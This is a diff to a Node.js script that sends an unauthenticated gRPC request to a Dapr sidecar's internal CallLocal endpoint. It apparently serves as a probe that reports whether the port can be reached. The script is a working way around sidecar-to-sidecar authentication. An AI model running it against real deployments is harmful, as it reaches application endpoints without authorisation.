@@ -1,6 +1,6 @@
-// Without credentials, calls a sidecar's internal gRPC port, which only other sidecars should call: `node
-// call-local.mjs <address> <port> <method> <body>` makes CallLocal send a POST to the sidecar's application. Prints the
-// result as JSON: {reached: false, why} or {reached: true, status, answer}.
+// Attacks a sidecar's internal gRPC port, which only other sidecars should call: `node call-local.mjs <address> <port>
+// <method> <body>` calls CallLocal without credentials. CallLocal sends a POST to the sidecar's application. Prints the
+// result as JSON: {reached: false, why} or {reached: true, status, answer}, where `status` is the gRPC status.
 import { connect } from 'node:http2';
 
 const [address = '', port = '', method = '', body = ''] = process.argv.slice(2);
@@ -25,13 +25,13 @@ const message = Buffer.concat([
 const frame = Buffer.alloc(5);
 frame.writeUInt32BE(message.length, 1);
 
-const say = (result) => {
+const printAndExit = (result) => {
   process.stdout.write(JSON.stringify(result));
   process.exit(0);
 };
 const session = connect(`http://${address.includes(':') ? `[${address}]` : address}:${port}`);
-session.once('error', (error) => say({ reached: false, why: error.code ?? error.message }));
-setTimeout(() => say({ reached: false, why: 'no response' }), TIMEOUT_MS);
+session.once('error', (error) => printAndExit({ reached: false, why: error.code ?? error.message }));
+setTimeout(() => printAndExit({ reached: false, why: 'no response' }), TIMEOUT_MS);
 const stream = session.request({
   ':method': 'POST',
   ':path': '/dapr.proto.internals.v1.ServiceInvocation/CallLocal',
@@ -45,5 +45,5 @@ const noteStatus = (headers) => (status = headers['grpc-status'] ?? status);
 stream.on('response', noteStatus);
 stream.on('trailers', noteStatus);
 stream.on('data', (data) => (answer = Buffer.concat([answer, data])));
-stream.once('end', () => say({ reached: true, status, answer: answer.toString('latin1') }));
+stream.once('end', () => printAndExit({ reached: true, status, answer: answer.toString('latin1') }));
 stream.end(Buffer.concat([frame, message]));
